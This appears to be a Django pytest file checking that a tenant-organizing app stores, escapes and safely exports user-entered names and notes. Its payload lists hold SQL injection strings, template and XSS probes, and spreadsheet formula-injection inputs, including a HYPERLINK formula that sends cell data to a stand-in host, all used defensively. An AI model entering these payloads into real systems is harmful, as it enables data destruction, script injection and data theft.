"""Names and notes that look like SQL, templates or HTML are stored as typed and shown as
text: escaped on every page that shows them, and kept from running as a formula in the
spreadsheets the CSV exports open in."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from buildings.models import Building, Unit
from contacts.models import Contact, Visit
from tests.makers import make_contact, mark_lapsed, new_key

PAYLOADS = [
    "'; DROP TABLE contacts_contact; --",
    "Robert'); DELETE FROM buildings_building WHERE ('1'='1",
    "{{ 7*7 }}",
    "{% debug %}",
    "<script>alert(1)</script>",
    '" onmouseover="x',
    "<img src=x onerror=alert(1)>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def client_for(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def assert_shown_as_text(page: str, payload: str) -> None:
    assert escape(payload) in page
    if escape(payload) != payload:
        assert payload not in page
    assert "sql_queries" not in page  # {% debug %} was not run


def add_resident(client: Client, unit: Unit, name: str) -> Contact:
    client.post(
        reverse("buildings:new_resident", args=[unit.building_id, unit.pk]),
        {"name": name, "key": new_key()},
    )
    return Contact.objects.get(unit=unit, name=name)


def talk(client: Client, contact: Contact, note: str) -> None:
    response = client.post(
        reverse("contacts:talk", args=[contact.pk]),
        {
            "key": new_key(),
            "channel": "door",
            "note": note,
            "level": "3",
            "ask": note[:200],
            "ask_due_on": timezone.localdate().isoformat(),
            "follow_up_on": timezone.localdate().isoformat(),
            "follow_up_purpose": note[:200],
        },
    )
    assert response.status_code == 302, response.content.decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_name_and_a_note_that_look_like_code_are_stored_as_typed(
    payload: str, olivia: User, unit_1204: Unit
) -> None:
    client = client_for(olivia)

    contact = add_resident(client, unit_1204, payload)
    talk(client, contact, payload)

    assert Contact.objects.filter(name=payload).count() == 1
    assert Visit.objects.get(contact=contact).note == payload
    assert contact.asks.get().question == payload
    assert contact.follow_ups.get().purpose == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_they_are_shown_escaped_wherever_organizers_read_them(
    payload: str, olivia: User, unit_1204: Unit
) -> None:
    client = client_for(olivia)
    contact = add_resident(client, unit_1204, payload)
    talk(client, contact, payload)

    pages = [
        reverse("contacts:detail", args=[contact.pk]),
        reverse("buildings:unit", args=[unit_1204.building_id, unit_1204.pk]),
        reverse("home"),  # the follow-up planned for today
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200
        assert_shown_as_text(response.content.decode(), payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_they_are_shown_escaped_on_the_committee_dashboard(
    payload: str, olivia: User, cora: User, unit_1204: Unit
) -> None:
    contact = add_resident(client_for(olivia), unit_1204, payload)
    talk(client_for(olivia), contact, payload)
    mark_lapsed(contact)

    response = client_for(cora).get(reverse("committee:dashboard"))

    page = response.content.decode()
    assert_shown_as_text(page, payload)
    assert page.count(escape(payload)) >= 2  # the name and the last note


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_building_named_like_code_is_shown_escaped(payload: str, ada: User, olivia: User) -> None:
    response = client_for(ada).post(
        reverse("setup:new"),
        {"name": payload, "street_address": payload, "floors": "3", "organizers": [olivia.pk]},
    )
    assert response.status_code == 302, response.content.decode()
    building = Building.objects.get(name=payload)

    for client, url in [
        (client_for(ada), reverse("setup:buildings")),
        (client_for(ada), reverse("setup:edit", args=[building.pk])),
        (client_for(olivia), reverse("buildings:list")),
        (client_for(olivia), reverse("buildings:detail", args=[building.pk])),
        (client_for(olivia), reverse("home")),
    ]:
        assert_shown_as_text(client.get(url).content.decode(), payload)


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_lapsed_export_keeps_a_formula_from_running(
    formula: str, olivia: User, cora: User, unit_1204: Unit
) -> None:
    contact = make_contact(unit_1204, owner=olivia, name=formula)
    talk(client_for(olivia), contact, formula)
    mark_lapsed(contact)

    response = client_for(cora).get(reverse("committee:export"))

    header, row = csv_rows(response.content)
    name, note = row[header.index("Name")], row[header.index("Last note")]
    assert name == "'" + formula
    assert note == "'" + formula.strip()  # the form strips what was typed


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_contacts_export_keeps_a_formula_from_running(
    formula: str, ada: User, unit_1204: Unit
) -> None:
    make_contact(unit_1204, name=formula)

    response = client_for(ada).post(reverse("setup:export"), {})

    header, row = csv_rows(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert row[header.index("name")] == "'" + formula


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_exports_keep_code_as_text(
    payload: str, olivia: User, cora: User, unit_1204: Unit
) -> None:
    contact = make_contact(unit_1204, owner=olivia, name=payload)
    mark_lapsed(contact)

    lapsed = client_for(cora).get(reverse("committee:export"))
    everyone = client_for(cora).post(reverse("setup:export"), {})

    assert csv_rows(lapsed.content)[1][0] == payload
    all_rows = csv_rows(b"".join(everyone.streaming_content))  # type: ignore[attr-defined]
    assert all_rows[1][all_rows[0].index("name")] == payload
